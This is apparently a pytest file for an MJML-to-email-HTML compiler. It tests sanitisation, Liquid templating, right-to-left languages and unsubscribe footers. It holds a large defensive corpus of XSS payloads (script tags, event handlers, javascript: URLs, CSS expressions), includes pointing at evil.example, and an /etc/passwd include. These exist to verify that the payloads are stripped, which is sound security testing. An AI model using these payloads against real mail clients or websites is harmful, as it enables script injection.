"""MJML becomes mail HTML: Liquid survives, scripts do not, languages and footers are right."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nexusone.kernel.liquid.faults import TemplateRejected
from nexusone.modules.marketing.domain.footers import UNSUBSCRIBE
from nexusone.modules.marketing.domain.links import LinkTable, track_html, with_pixel
from nexusone.modules.marketing.domain.liquid import Program
from nexusone.modules.marketing.domain.mjml import compile_mjml

INLINE = '<mj-style inline="inline">.y{color:blue}</mj-style>'
HOSTILE = "\"'><script>alert(1)</script><img src=x onerror=alert(1)> onmouseover=alert(1) javascript:alert(1) -->{{ 7 }}"
VALUES: dict[str, object] = {
    "contact": {
        "first_name": HOSTILE,
        "attributes": {"url": "javascript:alert(1)", "items": [{"url": "javascript:alert(1)", "name": HOSTILE}]},
    },
    "workspace": {"name": HOSTILE, "postal_address": HOSTILE},
    "campaign": {"name": HOSTILE},
    "unsubscribe_url": "https://t.example.com/u/x",
    "tracking": {f"l{index}": f"https://t.example.com/c/{index}" for index in range(50)} | {"open": "https://t.example.com/o/x"},
}
ODD_SCHEME = re.compile(r"(?!https?:|mailto:|tel:|sms:)[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def document(body: str, *, head: str = "") -> str:
    return f"<mjml><mj-head>{head}</mj-head><mj-body>{body}</mj-body></mjml>"


def column(content: str) -> str:
    return f"<mj-section><mj-column>{content}</mj-column></mj-section>"


def rendered(mjml: str, **values: object) -> str:
    html = with_pixel(track_html(compile_mjml(mjml, locale="en"), LinkTable()))
    return Program(html, is_html=True).render(VALUES | values)


class Inspector(HTMLParser):
    """Finds whatever could run, in conditional comments too."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "form", "svg", "math", "base", "applet"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "background", "action", "xlink:href") and ODD_SCHEME.match(re.sub(r"[\x00-\x20]", "", value or "")):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and re.search(r"expression\(|javascript:|behavior", value or "", re.IGNORECASE):
                self.found.append(f"{tag} style={value}")

    def handle_comment(self, data: str) -> None:
        inner = Inspector()
        inner.feed(data)
        inner.close()
        self.found += inner.found


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


XSS_CONTENT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<a href=\"{{ 'javascript:alert(1)' }}\">x</a>",
    '<a href="{{ contact.attributes.url }}">x</a>',
    '<a href="java{{ missing }}script:alert(1)">x</a>',
    '<a href="{% if missing %}https://{% endif %}javascript:alert(1)">x</a>',
    '<a href="{% comment %}{% endcomment %}javascript:alert(1)">x</a>',
    '{% for item in contact.attributes.items %}<a href="{{ item.url }}">{{ item.name }}</a>{% endfor %}',
    "<a {{ contact.first_name }}>x</a>",
    "<a title={{ contact.first_name }}>x</a>",
    "<a title='{{ contact.first_name }}'>x</a>",
    "<{{ 'script' }}>alert(1)</{{ 'script' }}>",
    "<scr{{ missing }}ipt>alert(1)</scr{{ missing }}ipt>",
    "{{ '<script>alert(1)</script>' }}",
    "{% assign s = '<script>' %}{{ s }}alert(1)",
    "{% capture s %}<span>{% endcapture %}{{ s | replace: 'pan', 'cript' }}",
    '{% capture q %}" onmouseover="alert(1){% endcapture %}<p title="{{ q }}">x</p>',
    "{% capture q %}' onmouseover='alert(1){% endcapture %}<p title='{{ q }}'>x</p>",
    '{{ "&#125;&#125;<script>alert(1)</script>" }}',
    "{{ contact.first_name | newline_to_br }}",
    '<p title="{{ contact.first_name | newline_to_br }}">x</p>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=p></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="width:expr\\65ssion(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->x",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example'</style>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<p <img src=x onerror=alert(1)>",
    '<p title="x><script>alert(1)</script>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>' ?>",
    HOSTILE,
]


@pytest.mark.parametrize("content", XSS_CONTENT)
@pytest.mark.parametrize("element", ["mj-text", "mj-raw", "mj-table", "mj-button"])
@pytest.mark.parametrize("head", ["", INLINE])
def test_nothing_that_runs_gets_through_content(content: str, element: str, head: str) -> None:
    try:
        html = rendered(document(column(f"<{element}>{content}</{element}>"), head=head))
    except TemplateRejected:
        return
    assert dangers(html) == []


@pytest.mark.parametrize(
    "mjml",
    [
        document(column('<mj-button href="javascript:alert(1)">x</mj-button>')),
        document(column('<mj-button href="&#106;avascript:alert(1)">x</mj-button>')),
        document(column("<mj-text css-class='a\" onclick=\"alert(1)'>x</mj-text>")),
        document(column("<mj-image src='https://x.y/z.png' alt='a\" onerror=\"alert(1)'/>")),
        document(column('<mj-image src="https://x.y/z.png" alt="{{ contact.first_name }}" title="{{ contact.first_name }}"/>')),
        document(column('<mj-image src="{{ contact.attributes.url }}"/>')),
        document(column("<mj-text color='red;} </style><script>alert(1)</script>'>x</mj-text>")),
        document(column('<mj-navbar base-url="javascript"><mj-navbar-link href=":alert(1)">x</mj-navbar-link></mj-navbar>')),
        document(column('<mj-social><mj-social-element name="x\'" href="javascript:alert(1)">x</mj-social-element></mj-social>')),
        document(column("x") + "<script>alert(1)</script>"),
        document(column('<mj-text onclick="alert(1)">x</mj-text>')),
        document(column("<mj-text>x</mj-text>"), head='<mj-title>a" onclick="alert(1) {{ contact.first_name }}</mj-title>'),
        document(column("<mj-text>x</mj-text>"), head="<mj-preview></div><script>alert(1)</script>{{ contact.first_name }}</mj-preview>"),
        document(column("<mj-text>x</mj-text>"), head="<mj-style></style><script>alert(1)</script></mj-style>"),
        document(column("<mj-text>x</mj-text>"), head="<mj-style>@import url(https://evil.example)</mj-style>"),
        document(column("<mj-text>x</mj-text>"), head="<mj-style>.a{background:url(javascript:alert(1))}</mj-style>"),
        document(column("<mj-text>x</mj-text>"), head="<mj-raw><script>alert(1)</script></mj-raw>"),
        document(column("<mj-text>x</mj-text>"), head='<mj-font name="F" href="javascript:alert(1)"/>'),
        document(column('<mj-section background-url="javascript:alert(1)"></mj-section>')),
        document('<mj-include path="/etc/passwd"/>'),
        document('<mj-include path="https://evil.example/x.mjml"/>'),
        "<mjml lang='en\" onload=\"alert(1)'><mj-body></mj-body></mjml>",
    ],
)
def test_nothing_that_runs_gets_through_attributes_and_heads(mjml: str) -> None:
    try:
        html = rendered(mjml)
    except TemplateRejected:
        return
    assert dangers(html) == []
    assert "root:" not in html


pieces = st.sampled_from(
    [
        *"<>\"'&;:=/ \n{}%!-",
        "script",
        "onclick=",
        "javascript:",
        "href=",
        "<a ",
        "<b>",
        "</b>",
        "{{ x }}",
        "{% if x %}",
        "{% endif %}",
        "{% capture q %}",
        "{% endcapture %}",
        "{{ q }}",
        "<!--",
        "-->",
        "<table>",
        "<tr>",
        "<p title=",
        "alert(1)",
        "style=",
        "]]>",
        "lq0z",
        "c0z",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(pieces, max_size=25).map("".join), st.sampled_from(["mj-text", "mj-raw", "mj-table"]))
def test_no_mixture_of_markup_and_liquid_runs(content: str, element: str) -> None:
    try:
        html = rendered(document(column(f"<{element}>{content}</{element}>")), x='" onclick="alert(1)', q="<script>")
    except TemplateRejected:
        return
    assert dangers(html) == []


def test_liquid_survives_in_text_attributes_tables_and_between_elements() -> None:
    mjml = document(
        column(
            '<mj-text>Hi {{ contact.first_name | default: "you & <me>" }}{% if contact.n &gt; 2 %} <b>many</b>{% endif %}</mj-text>'
            '<mj-button href="https://shop.example.com/{{ contact.external_id | url_encode }}?a=1&amp;b=2">Go</mj-button>'
            "<mj-table><tr><th>A</th></tr>{% for t in contact.tags %}<tr><td>{{ t }}</td></tr>{% endfor %}</mj-table>"
            "{% for t in contact.tags %}<mj-text>Tag {{ t }}</mj-text>{% endfor %}"
        )
        + '{% if contact.country == "DE" %}'
        + column("<mj-text>Only DE</mj-text>")
        + "{% endif %}"
    )
    contact = {"n": 3, "external_id": "a b", "tags": ["x", "y"], "country": "DE"}
    program = Program(compile_mjml(mjml, locale="en"), is_html=True)
    html = program.render(VALUES | {"contact": contact})
    assert "Hi you &amp; &lt;me&gt; <b>many</b>" in html
    assert 'href="https://shop.example.com/a+b?a=1&amp;b=2"' in html
    assert "<tr><td>x</td></tr><tr><td>y</td></tr>" in html
    assert html.count("Tag ") == 2
    assert "Only DE" in html
    assert "Only DE" not in program.render(VALUES | {"contact": contact | {"country": "FR"}})


def test_styles_are_inlined_into_content_around_liquid() -> None:
    mjml = document(column('<mj-text><p class="y">Hi {{ contact.n }}</p></mj-text>'), head=INLINE)
    assert '<p class="y" style="color: blue;">Hi {{ contact.n }}</p>' in compile_mjml(mjml, locale="en")


def test_conditional_comments_for_outlook_are_kept() -> None:
    html = rendered(document(column("<mj-text>x</mj-text>")))
    assert html.count("<!--[if mso | IE]>") >= 4
    assert "<o:OfficeDocumentSettings>" in html


def test_no_font_or_include_is_fetched_that_the_template_does_not_name() -> None:
    assert "fonts.googleapis.com" not in compile_mjml(document(column("<mj-text>x</mj-text>")), locale="en")


@pytest.mark.parametrize("content", ["text beside rows", "<p>x</p>", "<a href=", "</table><p>x</p>"])
def test_a_table_holds_rows_and_nothing_beside_them(content: str) -> None:
    with pytest.raises(TemplateRejected, match="whole rows"):
        compile_mjml(document(column(f"<mj-table>{content}</mj-table>")), locale="en")


@pytest.mark.parametrize("locale", ["ar", "he", "fa-IR"])
def test_languages_written_from_the_right_are_marked_and_aligned(locale: str) -> None:
    html = compile_mjml(document(column("<mj-text>مرحبا</mj-text>")), locale=locale)
    assert f'<html lang="{locale}" dir="rtl"' in html
    assert "text-align:right" in html


def test_an_alignment_that_the_template_names_wins() -> None:
    mjml = document(column("<mj-text>x</mj-text>"), head='<mj-attributes><mj-text align="center"/></mj-attributes>')
    assert "text-align:right" not in compile_mjml(mjml, locale="ar")


def test_other_languages_are_written_from_the_left() -> None:
    assert '<html lang="de-AT" dir="ltr"' in compile_mjml(document(column("<mj-text>x</mj-text>")), locale="de-AT")


@pytest.mark.parametrize("locale", [*UNSUBSCRIBE, "sv", "pt-BR"])
def test_a_visible_unsubscribe_link_is_appended_in_the_language_of_the_mail(locale: str) -> None:
    html = compile_mjml(document(column("<mj-text>x</mj-text>")), locale=locale)
    label = UNSUBSCRIBE.get(locale.split("-")[0], "Unsubscribe")
    assert re.search(rf'<a href="{{{{ unsubscribe_url }}}}"[^>]*>{re.escape(label)}</a>', html)
    assert html.index(label) < html.index("</body>")


def test_an_unsubscribe_link_of_the_template_is_the_only_one() -> None:
    html = compile_mjml(document(column('<mj-text><a href="{{ unsubscribe_url }}">Bye</a></mj-text>')), locale="en")
    assert html.count("unsubscribe_url") == 1


def test_mentioning_the_unsubscribe_address_without_a_link_is_not_enough() -> None:
    assert ">Unsubscribe</a>" in compile_mjml(document(column("<mj-text><!-- {{ unsubscribe_url }} -->x</mj-text>")), locale="en")


def test_the_preheader_comes_first_and_is_hidden() -> None:
    mjml = document(column("<mj-text>x</mj-text>"), head="<mj-preview>old</mj-preview>")
    html = compile_mjml(mjml, locale="en", preheader='{{ contact.first_name | default: "a & b" }} <i> & more')
    start = html.index("<body")
    assert html.index('{{ contact.first_name | default: "a & b" }} &lt;i&gt; &amp; more', start) < html.index("x</div>", start)
    assert "display:none" in html
    assert "old" not in html


@pytest.mark.parametrize(
    ("mjml", "code", "line"),
    [
        ("<mjml>\n<mj-body>\n<mj-text>x</mj-body></mjml>", "mjml.unclosed", 3),
        ("<mjml>\n<mj-body>\n\n<mj-section></mj-column></mj-section></mj-body></mjml>", "mjml.unclosed", 4),
        ("<mjml>\n<mj-body>\nhello</mj-body></mjml>", "mjml.text", 2),
        ("<mjml>\n<mj-head/></mjml>", "mjml.not_mjml", 1),
        ("<mjml><mj-body>\n<mj-section a=b></mj-section></mj-body></mjml>", "mjml.attribute", 2),
        ("<mjml><mj-body>" + "<mj-wrapper>" * 10_000, "mjml.too_large", 1),
        ("", "mjml.not_mjml", 1),
    ],
)
def test_what_is_not_mjml_is_refused_with_its_line(mjml: str, code: str, line: int) -> None:
    with pytest.raises(TemplateRejected) as caught:
        compile_mjml(mjml, locale="en")
    assert (caught.value.faults[0].code, caught.value.faults[0].line) == (code, line)
